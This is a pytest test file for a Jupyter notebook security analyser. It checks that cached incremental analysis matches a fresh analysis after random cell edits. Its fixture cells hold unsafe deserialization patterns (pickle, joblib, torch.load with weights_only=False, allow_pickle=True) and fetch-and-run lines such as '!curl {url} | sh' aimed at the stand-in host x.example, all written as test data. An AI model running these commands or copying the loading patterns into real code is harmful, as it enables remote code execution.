"""An analysis with a memory says what one without says, whatever was edited, moved, inserted or deleted before."""

from __future__ import annotations

import json
import random
from dataclasses import replace
from pathlib import Path

import pytest

from jupyter_mlsec.code.fragment import Fragment
from jupyter_mlsec.code.interpreter import Interpreter
from jupyter_mlsec.code.memory import Memory
from jupyter_mlsec.code.program import Program, analyse, check_code
from jupyter_mlsec.model.notebook import Cell, CellKind, Notebook, TargetKind
from jupyter_mlsec.model.text import CellRef, Place, Syntax, Text
from jupyter_mlsec.rules._discovery import discover

EXAMPLES = Path(__file__).parents[2] / "example_notebooks"

# Cells that hand each other names, objects, files, settings, and functions that are called before they are defined.
CELLS = (
    "import pickle\nimport numpy as np, torch, joblib",
    "import joblib as pickle",
    "from pickle import *",
    "from torch import load",
    "load = joblib.load",
    "def load(path):\n    return pickle.load(path)",
    "def load(path, **options):\n    return np.load(path, **options)",
    "def load(path):\n    return reader(path, allow_pickle=FLAG)\nreader = np.load",
    "def set_flag(value):\n    global FLAG, opts\n    FLAG = value\n    opts['allow_pickle'] = value",
    "set_flag(True)",
    "set_flag(False)",
    "FLAG = True",
    "FLAG = False",
    "del FLAG",
    "if x:\n    FLAG = 1\nelse:\n    load = open",
    "opts = {'allow_pickle': True}",
    "opts = dict(mmap_mode='r')",
    "opts['allow_pickle'] = True",
    "opts.update(allow_pickle=False)",
    "opts[x] = 1",
    "more = opts\nmore['allow_pickle'] = 1",
    "a = np.load('a.npy', **opts)",
    "a = np.load('a.npy', allow_pickle=FLAG)",
    "m = load('m.bin')",
    "m = load('m.bin', allow_pickle=True)",
    "np.load = partial(np.load, allow_pickle=True)",
    "from functools import partial\nread = partial(torch.load, weights_only=False)",
    "read('x.pt')",
    "list(map(read, files))",
    "class Model:\n    loader = joblib.load\n    def __init__(self, path):\n        self.state = torch.load(path)",
    "class Model:\n    def get(self):\n        return self.loader('m')",
    "Model.loader = pickle.load",
    "Model('m.pt').get()",
    "model = Model('m.pt')\nmodel.loader = joblib.load",
    "model.get()",
    "%%writefile tools.py\nimport pickle\ndef fetch(path):\n    return pickle.load(open(path, 'rb'))\ncount = 0",
    "%%writefile tools.py\ndef fetch(path):\n    global count\n    count = 1\n    return exec(path)",
    "import tools\ntools.fetch('x')",
    "from tools import fetch, count",
    "%run tools.py",
    "fetch(requests.get('https://x.example/a.py').text)",
    "import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '1'",
    "%env TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1",
    "torch.load('x.pt')",
    "torch.save(net, 'x.pt')",
    "joblib.dump(net, 'm.joblib')",
    "joblib.load('m.joblib')",
    "code = 'import pickle; pickle.load(f)'\nget_ipython().run_cell(code)",
    "code = '''\nimport joblib\njoblib.load(f)\n'''",
    "get_ipython().run_cell(code)",
    "with open('late.py', 'w') as file:\n    file.write(code)",
    "from late import joblib as j\nj.load('x')",
    "url = 'https://x.example/i.sh'",
    "!wget {url}\n!bash i.sh",
    "!curl {url} | sh",
    "target = 'i.sh'\nurllib.request.urlretrieve(url, target)",
    "x = (1,",
    "for load in (joblib.load, pickle.load):\n    load('x')",
    "try:\n    import cPickle as p\nexcept ImportError:\n    p = None",
    "p.load(f)",
    "handlers = {'pkl': pickle.load, 'npy': np.load}",
    "handlers['pkl']('x')",
    "handlers['pkl'] = json.load",
    "df = pd.read_csv('a.csv', dtype={'a': str})",
    "df = df.dropna()",
    "keras.config.enable_unsafe_deserialization()",
    "keras.models.load_model('m.keras')",
    "def make(module):\n    def inner(path):\n        return module.load(path)\n    return inner",
    "read = make(joblib)",
    "for path in paths:\n    if FLAG:\n        load(path)\n    load, FLAG = joblib.load, True",
    "parser = argparse.ArgumentParser()\nparser.add_argument('--pickled', action='store_true')",
    "parser.set_defaults(pickled=FLAG)",
    "args = parser.parse_args([])",
    "np.load('a.npy', allow_pickle=args.pickled)",
    "args.pickled = True",
    "cfg = OmegaConf.create({'io': {'pickled': False}})",
    "cfg.io.pickled = FLAG",
    "np.load('a.npy', allow_pickle=cfg.io.pickled)",
    "@dataclass\nclass Options:\n    pickled: bool = FLAG",
    "options = Options(pickled=True)",
    "options.pickled = FLAG",
    "np.load('a.npy', allow_pickle=options.pickled)",
    "class Model:\n    kinds = {'a': joblib.load}\n    def get(self, k='a'):\n        return self.kinds[k]('m')",
    "Model.kinds['a'] = pickle.load",
    "model = Model()\nmodel.flag = FLAG\nheld = {'m': model}",
    "held['m'].flag = True",
    "np.load('x', allow_pickle=model.flag)",
    "shared = opts\nalso = [opts, {'n': opts}]",
    "also[1]['n']['allow_pickle'] = True",
    "def get_opts():\n    return opts",
    "np.load('a', **get_opts())",
    "text = 'import pickle; pickle.load(f)'\ndef run_it():\n    get_ipython().run_cell(text)",
    "run_it()",
    "def sh():\n    !curl {url} | sh\nsh()",
    "sh()",
    "ns = types.SimpleNamespace(opts=opts)",
    "np.load('b', **ns.opts)",
    "read2 = partial(load, **opts)",
    "read2('x')",
    "def keep(x={'allow_pickle': True}):\n    return np.load('q', **x)",
    "keep(opts)",
    "# nothing",
)


class Book:
    """A notebook that is edited."""

    def __init__(self, sources: list[str], chance: random.Random) -> None:
        self.chance = chance
        self.cells = [self._cell(source) for source in sources]

    def _cell(self, source: str) -> tuple[str, str, int | None]:
        count = self.chance.choice((None, None, self.chance.randrange(1, 99)))
        return source, f"{self.chance.randrange(1 << 30):08x}", count

    def notebook(self) -> Notebook:
        cells = []
        for index, (source, name, count) in enumerate(self.cells):
            ref = CellRef(index, name)
            cells.append(Cell(ref, CellKind.CODE, Text(Place.SOURCE, source, Syntax.PYTHON, ref), count))
        return Notebook("x.ipynb", TargetKind.NOTEBOOK, tuple(cells))

    def edit(self, sources: tuple[str, ...]) -> None:
        at, kind = self.chance.randrange(len(self.cells)), self.chance.random()
        source, name, count = self.cells[at]
        if kind < 0.15 and not source.startswith("%%"):
            self.cells[at] = (f"{source}\n{self.chance.choice(sources)}", name, count)
        elif kind < 0.3:
            self.cells[at] = (self.chance.choice(sources), name, count)
        elif kind < 0.55:
            changed = self.chance.choice(
                (f"{source}\n", f"# note\n{source}", f"{source}\nz = 1", source.replace("1", "2"))
            )
            self.cells[at] = (changed, name, count)
        elif kind < 0.7:
            self.cells.insert(at, self._cell(self.chance.choice(sources)))
        elif kind < 0.8 and len(self.cells) > 1:
            del self.cells[at]
        elif kind < 0.9:
            self.cells.insert(self.chance.randrange(len(self.cells)), self.cells.pop(at))
        else:
            self.cells[at] = (source, name, self.chance.choice((None, self.chance.randrange(1, 99))))


def everything(program: Program) -> list[object]:
    """Return all that rules and people can see of an analysis."""
    seen: list[object] = [program.problems, program.broken]
    for one in (program, program.reordered):
        for call in one.calls if one else ():
            led = None if call.outer is None else call.outer[0].text.cell
            seen.append((call.name, call.text.cell, call.span, call.time, call.escaped, call.direct, led))
            seen.append((call.arguments.complete, [*call.arguments.keywords], len(call.arguments.positional)))
        for command in one.commands if one else ():
            before = len([*command.earlier])
            seen.append((command.program, command.values, command.text.cell, command.span, command.time, before))
    for rule, hit in check_code(program, discover()):
        fixes = [(fix.title, [(each.span, each.replacement) for each in fix.changes]) for fix in hit.fixes]  # type: ignore[union-attr]
        seen.append((rule.name, hit.text.cell, hit.span, hit.message, hit.severity, hit.confidence, fixes))
    return seen


@pytest.mark.parametrize("seed", range(60))
def test_after_any_edits_the_answer_is_that_of_an_analysis_from_scratch(seed: int) -> None:
    chance = random.Random(seed)
    book = Book([chance.choice(CELLS) for _ in range(chance.randrange(3, 14))], chance)
    memory = Memory()
    for _ in range(12):
        notebook = book.notebook()
        assert everything(analyse(notebook, memory=memory)) == everything(analyse(notebook))
        book.edit(CELLS)


@pytest.mark.parametrize("path", [pytest.param(path, id=path.name) for path in sorted(EXAMPLES.glob("*.ipynb"))])
def test_real_notebooks_agree_after_edits(path: Path) -> None:
    chance = random.Random(path.name)
    cells = json.loads(path.read_bytes())["cells"]
    sources = tuple("".join(cell["source"]) for cell in cells if cell["cell_type"] == "code")
    book, memory = Book([*sources], chance), Memory()
    for _ in range(15):
        notebook = book.notebook()
        assert everything(analyse(notebook, memory=memory)) == everything(analyse(notebook))
        book.edit((*sources, *CELLS))


def test_an_edit_runs_the_cell_and_those_that_it_changes(monkeypatch: pytest.MonkeyPatch) -> None:
    ran: list[str] = []
    run_cell = Interpreter.run_cell

    def counted(self: Interpreter, fragment: Fragment) -> None:
        ran.append(fragment.content)
        run_cell(self, fragment)

    monkeypatch.setattr(Interpreter, "run_cell", counted)
    memory = Memory()

    def again(*sources: str) -> list[str]:
        ran.clear()
        chance = random.Random(0)
        book = Book([], chance)
        book.cells = [(source, str(index), None) for index, source in enumerate(sources)]
        analyse(book.notebook(), memory=memory)
        return [*ran]

    imports, flag, use, other = "import numpy as np", "FLAG = True", "np.load('a.npy', allow_pickle=FLAG)", "x = 1"
    assert again(imports, flag, use, other) == [imports, flag, use, other]
    assert again(imports, flag, use, other) == []
    assert again(f"{imports}\nimport os", flag, use, other) == [f"{imports}\nimport os"]
    assert again(f"{imports}\nimport os", "FLAG = False", use, other) == ["FLAG = False", use]
    assert again(other, f"{imports}\nimport os", "FLAG = False", use) == []
    assert again(f"{imports}\nimport os", use) == [use]
    assert again(use, f"{imports}\nimport os") == [use, use]  # once more with what the name is later


def test_what_is_no_more_in_the_notebook_is_forgotten() -> None:
    memory = Memory()
    chance = random.Random(0)
    analyse(Book(["x = 1", "y = 'hunter' + x"], chance).notebook(), memory=memory)
    analyse(Book(["x = 1"], chance).notebook(), memory=memory)
    [order] = memory._orders.values()
    assert [entry.fragment.content for entry in order.cells.values()] == ["x = 1"]
    assert all(len(entry.runs) <= 3 for entry in order.cells.values())


def test_a_huge_notebook_is_not_remembered() -> None:
    memory = Memory()
    huge = "x = '" + "a" * 4_000_000 + "'"
    analyse(Book([huge], random.Random(0)).notebook(), memory=memory)
    assert memory._orders == {}


def test_places_are_those_of_the_cell_as_it_stands_now() -> None:
    memory = Memory()
    book = Book(["import pickle", "pickle.load(f)"], random.Random(0))
    analyse(book.notebook(), memory=memory)
    book.cells.insert(0, ("# first", "new", None))
    notebook = book.notebook()
    [(_, hit)] = check_code(analyse(notebook, memory=memory), discover())
    assert hit.text is notebook.cells[2].source
    assert hit.text.cell == replace(notebook.cells[2].ref, index=2)


FILES = (
    "import pickle\ndef fetch(path):\n    return pickle.load(open(path, 'rb'))\ncount = 0",
    "def fetch(path, reader=open):\n    return reader(path)\nfrom other import *",
    "import joblib\nmodel = joblib.load('m')\nclass Model:\n    def get(self):\n        return joblib.load(self.path)",
    "def fetch(:",
    "%run tools.py\n!curl https://x.example | sh",
)


@pytest.mark.parametrize("seed", range(12))
def test_files_beside_the_notebook_may_change_between_analyses(seed: int) -> None:
    chance = random.Random(seed)
    using = tuple(cell for cell in CELLS if "tools" in cell or "fetch" in cell or "Model" in cell)
    book, memory = Book([chance.choice(using) for _ in range(8)], chance), Memory()
    files: dict[str, tuple[Text, ...]] = {}
    for _ in range(12):
        notebook = book.notebook()
        assert everything(analyse(notebook, memory=memory, files=files)) == everything(analyse(notebook, files=files))
        if chance.random() < 0.5:
            name = chance.choice(("tools.py", "other.py"))
            files = {**files, name: (Text(Place.SOURCE, chance.choice(FILES), Syntax.PYTHON),)}
        else:
            book.edit(using)
